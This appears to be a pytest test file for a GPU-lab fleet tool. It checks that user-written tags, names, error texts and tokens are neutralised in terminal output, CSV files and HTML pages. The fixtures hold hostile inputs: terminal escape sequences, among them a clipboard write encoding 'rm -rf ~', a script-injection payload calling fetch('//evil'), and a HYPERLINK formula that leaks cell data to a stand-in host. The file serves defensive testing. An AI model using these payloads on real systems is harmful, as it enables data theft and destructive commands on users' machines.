"""What strangers may write (tags, names, errors, rosters, notebooks' servers) and we show: it drives no terminal, page or spreadsheet."""

from __future__ import annotations

import csv
import importlib.util
import io
import re
import unicodedata
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import pytest
from tests.aws.conftest import UBUNTU, a_client

from gpulab.cli.main import run
from gpulab.fleet.ticket import Ticket
from gpulab.fleets.members import Member
from gpulab.launch.running import browser
from gpulab.model.fleet import AccountRef, Seat
from gpulab.remote.supervisor import Gone
from gpulab.remote.tunnel import gone_page
from gpulab.view.handout import Handed, handout_html, merge_csv

CHECKOUT = Path(__file__).parents[3]
_spec = importlib.util.spec_from_file_location(
    "fleet_builders", CHECKOUT / "tests" / "unit" / "fleet_builders.py"
)
build = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(build)

# Clear the screen, fill the clipboard, a C1 sequence, go back over the line, write from right to left.
DRIVING = "\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m\rok\u202e\u2066"
# What of it can stand in the XML that AWS answers in: C1 and bidi, which terminals obey as well.
SENT = "\x9b2J\x9d52;c;cm0gLXJmIH4=\x9c\x9b31mok\u202e\u2066"
SCRIPT = '"><script>fetch("//evil")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil/?"&A1,"mark")'
NOW = datetime(2026, 9, 7, 12, 0, tzinfo=UTC)


def drives(text):
    """What of a text a terminal would obey."""
    bidi = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")
    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in bidi]


class Live(HTMLParser):
    """What in a page would run or ask for something, as a browser's parser sees it."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "img", "iframe", "object", "svg", "form", "base"):
            self.found.append(tag)
        self.found += [name for name, _ in attrs if name.startswith("on")]
        self.found += [
            v for n, v in attrs if n in ("href", "src") and not v.startswith("http://127.")
        ]


# -- terminals ----------------------------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(sandbox):
    """An instance in our account whose tags somebody else wrote: everybody in a shared account may tag their own."""
    image = a_client("ssm").get_parameter(Name=UBUNTU)["Parameter"]["Value"]
    tags = {"name": FORMULA, "owner": "me", "launch": "l1", "env": SENT, "lab": SENT}
    a_client("ec2").run_instances(
        ImageId=image,
        InstanceType="g4dn.xlarge",
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[
            {
                "ResourceType": "instance",
                "Tags": [{"Key": f"gpulab:{k}", "Value": v} for k, v in tags.items()],
            }
        ],
    )
    sandbox.advance(20)


def shown(capsys, *arguments):
    run(list(arguments))
    said = capsys.readouterr()
    return said.out + said.err


@pytest.mark.parametrize(
    "arguments",
    [
        ("ls", "--quick"),
        ("ls", "--quick", "--csv"),
        ("ls", "--quick", "--json"),
        ("show", FORMULA),
        ("sweep",),
        ("stop", DRIVING, "--yes"),
        ("up", DRIVING, "--dry-run"),
    ],
    ids=lambda words: " ".join(w for w in words if w.isascii() and w.isprintable()),
)
def test_no_command_lets_a_tag_or_a_name_drive_the_terminal(hostile, capsys, arguments):
    """A tag can clear the screen, forge a line, or fill the clipboard with a command (OSC 52)."""
    text = shown(capsys, *arguments)

    assert len(drives(DRIVING)) > 5 < len(drives(SENT))
    assert [] == drives(text)
    assert text.strip() != ""


def test_what_aws_says_in_an_error_drives_nothing(sandbox, capsys):
    """Error texts hold parts of the request, and so whatever was in a tag or a name."""
    sandbox.refuse("DescribeInstances", "InvalidParameterValue", message=f"bad {SENT} value")

    text = shown(capsys, "ls")

    assert "InvalidParameterValue" in text
    assert [] == drives(text)


def test_a_roster_drives_nothing(tmp_path, capsys):
    """Students choose how their name is written; a teacher looks at it in a terminal."""
    run(["course", "new", str(tmp_path / "course")])
    roster = tmp_path / "course" / "roster.csv"
    head = roster.read_text().splitlines()[0].split(",")
    row = dict.fromkeys(head, "") | {"id": "s1", "name": f"Ann {DRIVING}", "email": "a@b.example"}
    with roster.open("w", newline="") as stream:
        writer = csv.DictWriter(stream, head)
        writer.writeheader()
        writer.writerow(row)
    capsys.readouterr()

    text = shown(capsys, "course", "check", str(tmp_path / "course"))
    text += shown(capsys, "course", "show", str(tmp_path / "course"))

    assert [] == drives(text)
    assert len(text) > 40


def test_nothing_is_written_past_the_filter():
    """One forgotten `print` is a hole; those that write by themselves write only their own words."""
    own = {
        "__main__.py": "the version",
        "cli/completion.py": "a script of click's",
        "cli/ledger.py": "JSON, whose control characters are escaped",
        "cli/logs.py": "`--raw`, which says so",
        "cli/main.py": "click's own usage, and a closed pipe",
        "view/console.py": "the filter itself",
        "remote/instance_side.py": "a program on the instance",
        "remote/paramiko_link.py": "between two of our processes",
    }
    writing = re.compile(
        r"\bprint\(|click\.s?echo\(|sys\.std(?:out|err)\.(?:write|buffer)|\.(?:out|err)\.write\b"
    )
    package = CHECKOUT / "src" / "gpulab"
    found = {
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.relative_to(package).parts[0] not in ("agent", "sandbox")
        and writing.search(path.read_text(encoding="utf-8"))
    }

    assert set(own) == found


# -- spreadsheets -------------------------------------------------------------------------------------------------------------


def handed(name="Ann", *, lab="week4"):
    student = build.students(1)[0]
    student = type(student)(**{**vars(student), "name": name, "id": name, "email": name})
    seat = Seat("week4-s1", "s1", "s1", "", (student,), AccountRef("default", "", "", ""))
    ticket = Ticket(
        name="week4-s1",
        instance_id="i-0123456789abcdef0",
        address="203.0.113.9",
        user="ubuntu",
        host_key="AAAA",
        private_key="",
        ends_at=NOW,
    )
    return Handed(Member(seat.account, seat, None), ticket, "s1.ticket")


def test_no_table_holds_a_formula(hostile, capsys):
    """A cell that begins with `=` runs when a teacher opens the file; quoting it keeps the text and takes the meaning."""
    listing = list(csv.reader(io.StringIO(shown(capsys, "ls", "--quick", "--csv"))))
    mail = list(csv.reader(io.StringIO(merge_csv([handed(FORMULA)], lab="@SUM(A1)"))))

    cells = [cell for row in [*listing, *mail] for cell in row]
    assert FORMULA.startswith("=")
    assert [] == [cell for cell in cells if cell.strip()[:1] in tuple("=+-@")]
    assert 2 <= sum(FORMULA in cell for cell in cells)


def test_every_writer_of_tables_quotes_its_cells():
    """A new table is a new hole unless it goes the same way."""
    package = CHECKOUT / "src" / "gpulab"
    writers = {
        path.relative_to(package).as_posix(): "csv_cell(" in path.read_text(encoding="utf-8")
        for path in package.rglob("*.py")
        if re.search(r"csv\.(?:writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }

    assert dict.fromkeys(writers, True) == writers
    assert "view/console.py" in writers


# -- pages --------------------------------------------------------------------------------------------------------------------


def test_the_handout_shows_names_as_texts():
    """A student's name comes from a form they filled in themselves."""
    from jinja2 import Environment, PackageLoader

    source = Environment(loader=PackageLoader("gpulab", "view"), autoescape=False)  # noqa: S701 - the weak set-up
    weak = source.get_template("handout.html.jinja").render(
        title=SCRIPT, css="", style_hash="", pages=[]
    )

    page = handout_html([handed(SCRIPT)], title=f"Lab {SCRIPT}")

    assert {"script", "img", "onerror"} <= set(Live(weak).found)
    assert [] == Live(page).found
    assert "default-src &#39;none&#39;" in page or "default-src 'none'" in page


@pytest.mark.parametrize("is_final", [True, False])
def test_the_page_of_a_gone_instance_shows_the_reason_as_a_text(is_final):
    """The reason is AWS's, or the instance's own."""
    page = gone_page(Gone(f"ended: {SCRIPT}", is_final)).decode()

    head, _, body = page.partition("\r\n\r\n")
    assert {"script", "img"} <= set(Live(f"<p>{SCRIPT}</p>").found)
    assert [] == Live(body).found
    assert "default-src 'none'" in head


def test_the_page_that_leads_to_jupyter_takes_the_token_as_a_text(tmp_path, monkeypatch):
    """The token is what the instance says it is, and root there is whoever wrote the notebook; the page is opened as a local file."""
    opened = []
    monkeypatch.setattr(browser.webbrowser, "open", lambda uri: opened.append(uri))

    browser.lead(tmp_path, SimpleNamespace(url="http://127.0.0.1:8888/lab"), SCRIPT)

    (file,) = tmp_path.glob("open-*.html")
    page = file.read_text(encoding="utf-8")
    assert {"script", "img"} <= set(Live(f'<a href="{SCRIPT}">').found)
    assert [] == Live(page).found
    assert [file.as_uri()] == opened
